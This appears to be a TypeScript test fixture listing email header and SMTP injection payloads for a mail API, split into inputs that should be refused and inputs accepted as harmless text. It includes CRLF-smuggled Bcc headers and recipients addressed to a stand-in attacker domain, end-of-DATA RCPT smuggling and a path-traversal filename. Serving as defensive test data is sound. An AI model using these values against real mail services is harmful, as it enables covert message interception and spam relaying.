// Attempts to smuggle a header or a recipient into a message.
import { payload } from '../messages/fixtures.ts';

const evil = '\r\nBcc: evil@attacker.example';
const top = (fields: Record<string, unknown>) => payload({}, fields);
const to = (email: string, name?: string) => top({ to: [{ email, ...(name && { name }) }] });
const header = (name: string, value = 'x') => payload({ headers: { [name]: value } });
const attachment = (fields: Record<string, unknown>) =>
  payload({ attachments: [{ filename: 'a.txt', content: 'aGk=', ...fields }] });

/** Payloads refused with a 422 that names this field. */
export const refusedInjections: [name: string, body: unknown, field: string][] = [
  ['CRLF in the subject', payload({ subject: `Hi${evil}` }), 'email.subject'],
  ['LF in the subject', payload({ subject: 'Hi\nBcc: evil@attacker.example' }), 'email.subject'],
  ['CR in the subject', payload({ subject: 'Hi\rBcc: evil@attacker.example' }), 'email.subject'],
  ['a fold in the subject', payload({ subject: 'Hi\r\n x' }), 'email.subject'],
  ['an end of the header in the subject', payload({ subject: 'Hi\r\n\r\nbody' }), 'email.subject'],
  ['NUL in the subject', payload({ subject: 'Hi\0' }), 'email.subject'],
  ['a line break at the end of the subject', payload({ subject: 'Hi\n' }), 'email.subject'],
  ['an escape in the subject', payload({ subject: 'Hi\u001b[2J' }), 'email.subject'],
  ['a form feed in the subject', payload({ subject: 'Hi\f' }), 'email.subject'],
  [
    'CRLF in the name of from',
    top({ from: { email: 'a@sandbox.test', name: `A${evil}` } }),
    'from.name',
  ],
  ['CRLF in the address of from', top({ from: { email: `a@sandbox.test${evil}` } }), 'from.email'],
  [
    'two addresses in from',
    top({ from: { email: 'a@sandbox.test,b@sandbox.test' } }),
    'from.email',
  ],
  ['CRLF in a name in to', to('a@b.example', `A${evil}`), 'to.0.name'],
  ['NUL in a name in to', to('a@b.example', 'A\0'), 'to.0.name'],
  ['LF in a name in cc', top({ cc: [{ email: 'a@b.example', name: 'A\nB' }] }), 'cc.0.name'],
  ['CR in a name in bcc', top({ bcc: [{ email: 'a@b.example', name: 'A\rB' }] }), 'bcc.0.name'],
  ['CRLF in an address', to(`a@b.example${evil}`), 'to.0.email'],
  ['CRLF in a quoted local part', to('"a\r\nb"@b.example'), 'to.0.email'],
  ['a second address', to('a@b.example, evil@attacker.example'), 'to.0.email'],
  ['a second address in brackets', to('a@b.example> <evil@attacker.example'), 'to.0.email'],
  ['parameters of RCPT', to('a@b.example> NOTIFY=NEVER'), 'to.0.email'],
  ['a display name in an address', to('Ada <a@b.example>'), 'to.0.email'],
  ['a source route', to('@relay.example:a@b.example'), 'to.0.email'],
  ['a group', to('friends:a@b.example;'), 'to.0.email'],
  ['a comment', to('a(b)@b.example'), 'to.0.email'],
  ['separators that fold to ASCII', to('a@b.example，evil＠attacker.example'), 'to.0.email'],
  ['an at sign that folds to ASCII', to('a＠attacker.example@b.example'), 'to.0.email'],
  ['a space in a domain', to('a@b.example evil'), 'to.0.email'],
  ['NUL in metadata', top({ metadata: { key: 'v\0' } }), 'metadata.key'],
  ['CRLF in replyTo', payload({ replyTo: [`a@b.example${evil}`] }), 'email.replyTo.0'],
  ['a list in replyTo', payload({ replyTo: ['a@b.example,c@d.example'] }), 'email.replyTo.0'],
  ['CRLF in a header value', header('X-A', `x${evil}`), 'email.headers.X-A'],
  ['LF in a header value', header('X-A', 'x\nBcc: y'), 'email.headers.X-A'],
  ['NUL in a header value', header('X-A', 'x\0'), 'email.headers.X-A'],
  ['CRLF in a header name', header('X-A: x\r\nBcc'), 'email.headers.X-A: x\r\nBcc'],
  ['a colon in a header name', header('X-A: x'), 'email.headers.X-A: x'],
  ['a space in a header name', header('Bcc '), 'email.headers.Bcc '],
  ['an empty header name', header(''), 'email.headers.'],
  ['a header name beyond ASCII', header('X-Ä'), 'email.headers.X-Ä'],
  ['a long header name', header('X'.repeat(77)), `email.headers.${'X'.repeat(77)}`],
  ['CRLF in a file name', attachment({ filename: `a${evil}` }), 'email.attachments.0.filename'],
  ['NUL in a file name', attachment({ filename: 'a.txt\0.exe' }), 'email.attachments.0.filename'],
  [
    'CRLF in a media type',
    attachment({ contentType: `text/plain${evil}` }),
    'email.attachments.0.contentType',
  ],
  [
    'CRLF within quotes of a media type',
    attachment({ contentType: `text/plain; name="x${evil}"` }),
    'email.attachments.0.contentType',
  ],
  [
    'a message as attachment',
    attachment({ contentType: 'message/rfc822' }),
    'email.attachments.0.contentType',
  ],
  ['CRLF in a content id', attachment({ contentId: `x${evil}` }), 'email.attachments.0.contentId'],
  ['a bracket in a content id', attachment({ contentId: 'x>y' }), 'email.attachments.0.contentId'],
  ...[
    'Bcc',
    'bcc',
    'To',
    'CC',
    'From',
    'Sender',
    'Reply-To',
    'Return-Path',
    'Subject',
    'Date',
    'Message-ID',
    'In-Reply-To',
    'References',
    'Received',
    'DKIM-Signature',
    'ARC-Seal',
    'Authentication-Results',
    'MIME-Version',
    'Content-Type',
    'Content-Transfer-Encoding',
    'Content-Disposition',
    'Resent-To',
    'RESENT-BCC',
    'X-Priority',
  ].map((name): [string, unknown, string] => [
    `the header ${name}`,
    header(name, 'evil@attacker.example'),
    `email.headers.${name}`,
  ]),
];

export interface HarmlessInjection {
  name: string;
  body: Record<string, unknown>;
  /** Headers of the caller as they arrive. */
  headers?: Record<string, string>;
  /** The mail as our parser shows it, which drops controls and line separators. */
  shown?: { subject?: string; from?: string; to?: string; filename?: string };
}

const wordOfCrlf = '=?utf-8?Q?Hi=0D=0ABcc:_evil@attacker.example?=';

const subjects: [given: string, shown: string][] = [
  ['Hi\u2028Bcc: x', 'HiBcc: x'],
  ['Hi\u2029x', 'Hix'],
  ['Hi\u0085Bcc: x', 'HiBcc: x'],
  ['Hi\u007f', 'Hi'],
  ['Hi\tx', 'Hi x'],
  ['Bcc: evil@attacker.example', 'Bcc: evil@attacker.example'],
  [wordOfCrlf, wordOfCrlf],
];

const displayNames: [given: string, shown: string][] = [
  ['Ada\u2028Bcc: x', 'AdaBcc: x'],
  ...[
    'Ada" <evil@attacker.example>, "Bob',
    'Ada <evil@attacker.example>',
    'Ada, Bob',
    'Ada\\',
    '"',
    'a@b.example',
    'Ada (x)',
    'friends: a;',
    wordOfCrlf,
  ].map((name): [string, string] => [name, name]),
];

const filenames: [given: string, shown: string][] = [
  ['a"; filename="evil.exe', 'a"; filename="evil.exe'],
  ['a\u2028b.txt', 'ab.txt'],
  ['../../etc/passwd', 'passwd'],
  ["utf-8''evil.exe", "utf-8''evil.exe"],
  [wordOfCrlf, 'Hi Bcc: evil@attacker.example'],
];

/** Accepted payloads that arrive as text in the intended field. */
export const harmlessInjections: HarmlessInjection[] = [
  ...subjects.map(([subject, shown]) => ({
    name: `the subject ${JSON.stringify(subject)}`,
    body: payload({ subject }),
    shown: { subject: shown },
  })),
  ...displayNames.flatMap(([name, shown]) => [
    {
      name: `the name ${JSON.stringify(name)} in to`,
      body: to('ada@example.com', name),
      shown: { to: shown },
    },
    {
      name: `the name ${JSON.stringify(name)} in from`,
      body: top({ from: { email: 'a@sandbox.test', name } }),
      shown: { from: shown },
    },
  ]),
  ...filenames.map(([filename, shown]) => ({
    name: `the file name ${JSON.stringify(filename)}`,
    body: attachment({ filename }),
    shown: { filename: shown },
  })),
  ...[wordOfCrlf, 'x'.repeat(998), 'ä\u2028Bcc: x', 'a, b; c="d"', '<evil@attacker.example>'].map(
    (value) => ({
      name: `the header value ${JSON.stringify(value).slice(0, 60)}`,
      body: header('X-A', value),
      headers: { 'X-A': value },
    }),
  ),
  {
    name: 'headers named much like our own',
    body: payload({ headers: { 'X-Bcc': 'evil@attacker.example', 'List-Id': 'x' } }),
    headers: { 'X-Bcc': 'evil@attacker.example', 'List-Id': 'x' },
  },
  { name: 'CRLF in a tag', body: top({ tags: [`a${evil}`] }) },
  { name: 'CRLF in metadata', body: top({ metadata: { [`k${evil}`]: `v${evil}` } }) },
  {
    name: 'headers at the start of the text',
    body: payload({ text: 'Bcc: evil@attacker.example\r\n\r\nx' }),
  },
  {
    name: 'an end of DATA in the text',
    body: payload({ text: 'a\r\n.\r\nRCPT TO:<evil@attacker.example>\r\n' }),
  },
  { name: 'lone line ends in the text', body: payload({ text: 'a\n.\nb\r.\rc\n\r.\r\n' }) },
  {
    name: 'a boundary in text and html',
    body: payload({ text: '--=_x\r\nBcc: a', html: '--=_x--\r\n' }),
  },
];
